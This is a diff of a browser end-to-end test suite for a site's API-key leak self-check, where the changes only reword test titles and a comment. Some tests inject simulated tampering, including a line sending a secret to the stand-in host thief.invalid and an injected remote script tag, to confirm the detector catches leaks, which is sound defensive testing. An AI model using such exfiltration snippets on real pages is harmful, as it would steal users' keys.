@@ -10,7 +10,7 @@ import { runAxe } from './support/run-axe.ts'
 
 const notFound = /^Not found\. A made-up key was used like a real one and looked for in 18 places\./
 
-test.describe('On the site as it was built', () => {
+test.describe('On the unchanged site', () => {
   test('The check finds its decoys everywhere and its key nowhere', async ({ page, context }) => {
     const traffic = recordTraffic(context)
     const check = new SelfCheckPage(page)
@@ -43,7 +43,7 @@ test.describe('On the site as it was built', () => {
     await expect(check.console.language).toHaveValue('go')
   })
 
-  test('A key that is held stays held', async ({ page, createKey }) => {
+  test('A held key stays held', async ({ page, createKey }) => {
     const check = new SelfCheckPage(page)
     await check.open()
     await check.console.enterKey(await createKey('Checked'))
@@ -70,7 +70,7 @@ test.describe('On the site as it was built', () => {
     expect(report).not.toMatch(/fake_(?:check|decoy)_/)
   })
 
-  test('The keyboard opens the panel and runs the check, and its end is announced', async ({
+  test('The keyboard opens the panel and runs the check, and the result is announced', async ({
     page,
   }) => {
     const check = new SelfCheckPage(page)
@@ -110,7 +110,7 @@ test.describe('On the site as it was built', () => {
     })
   }
 
-  test('At 320 px the result is not wider than the window', async ({ page }) => {
+  test('At 320 px, the result is not wider than the window', async ({ page }) => {
     await page.setViewportSize({ width: 320, height: 640 })
     const check = new SelfCheckPage(page)
     await check.open()
@@ -119,7 +119,7 @@ test.describe('On the site as it was built', () => {
   })
 })
 
-test.describe('In a page that was tampered with', () => {
+test.describe('In a tampered page', () => {
   for (const [index, [place, statement]] of leaks.entries()) {
     test(`A leak is found in ${place} (${index + 1})`, async ({ page }) => {
       await page.addInitScript(leakOnSend(statement))
@@ -132,10 +132,7 @@ test.describe('In a page that was tampered with', () => {
     })
   }
 
-  test('A function that was replaced is named, whatever it does with a key', async ({
-    page,
-    context,
-  }) => {
+  test('A replaced function is named, whatever it does with a key', async ({ page, context }) => {
     await context.grantPermissions(['clipboard-read', 'clipboard-write'])
     await page.addInitScript(`if (self === top) {
       const real = fetch
@@ -160,7 +157,7 @@ test.describe('In a page that was tampered with', () => {
     await expect(check.find('attributes')).toContainText('while it was in the field')
   })
 
-  test('A call to another host is blocked and listed, with what it carried', async ({ page }) => {
+  test('A request to another host is blocked and listed with what it carried', async ({ page }) => {
     await page.addInitScript(
       leakOnSend(`send('https://thief.invalid/?' + secret).catch(() => undefined)`),
     )
@@ -173,7 +170,7 @@ test.describe('In a page that was tampered with', () => {
     await expect(check.verdict).toHaveText(/^Found\./)
   })
 
-  test('What the policy blocked before the console was there is listed', async ({ page }) => {
+  test('The report lists what the policy blocked before the console loaded', async ({ page }) => {
     await rewritePages(page, (text) =>
       text.replace('</head>', '<script src="https://thief.invalid/x.js"></script></head>'),
     )
@@ -183,7 +180,7 @@ test.describe('In a page that was tampered with', () => {
     await expect(check.policy).toContainText('script-src-elem: https://thief.invalid')
   })
 
-  test('Without a policy it says so', async ({ page }) => {
+  test('The report says if there is no policy', async ({ page }) => {
     await rewritePages(page, (text) =>
       text.startsWith('<') ? text.replace('Content-Security-Policy', 'Nothing') : '',
     )
@@ -194,8 +191,8 @@ test.describe('In a page that was tampered with', () => {
   })
 })
 
-test.describe('Where the check cannot be done', () => {
-  test('A place that the browser refuses is not called clean', async ({ page }) => {
+test.describe('If the check cannot complete', () => {
+  test('A place that the browser refuses to read is not reported as clean', async ({ page }) => {
     await page.addInitScript(
       `indexedDB.open = () => { throw new DOMException('', 'SecurityError') }`,
     )
@@ -206,7 +203,7 @@ test.describe('Where the check cannot be done', () => {
     await expect(check.find('IndexedDB')).toContainText('The browser refused: SecurityError.')
   })
 
-  test('A detector that is blind is not trusted', async ({ page }) => {
+  test('A detector that misses its decoy is not trusted', async ({ page }) => {
     await page.addInitScript(`performance.getEntries = () => []`)
     const check = new SelfCheckPage(page)
     await check.open()
@@ -214,7 +211,7 @@ test.describe('Where the check cannot be done', () => {
     await expect(check.find('the list of requests')).toContainText('was not found again')
   })
 
-  test('A site that does not answer ends the check with what to do', async ({ page }) => {
+  test('If the site does not respond, the check says what to do', async ({ page }) => {
     const check = new SelfCheckPage(page)
     await check.open()
     await page.route('**/openapi.json', (route) => route.abort())
@@ -225,7 +222,9 @@ test.describe('Where the check cannot be done', () => {
     await expect(check.verdict).toHaveText(notFound)
   })
 
-  test('A panel that cannot be loaded says so, and the console works on', async ({ page }) => {
+  test('If the panel cannot be loaded, it says so, and the console still works', async ({
+    page,
+  }) => {
     const check = new SelfCheckPage(page)
     await page.route('**/SelfCheckPanel*', (route) => route.abort())
     await check.console.open()
@@ -239,7 +238,7 @@ function isOwn(url: string): boolean {
   return url.startsWith(`${portalUrl}/`) || url === 'data:,self-check'
 }
 
-/** What a page can leave behind, as far as the check could have added to it. */
+/** Everything that the check could leave behind. */
 async function describeTraces(page: Page) {
   const cookies = await page.context().cookies()
   const inPage = await page.evaluate(async () => {
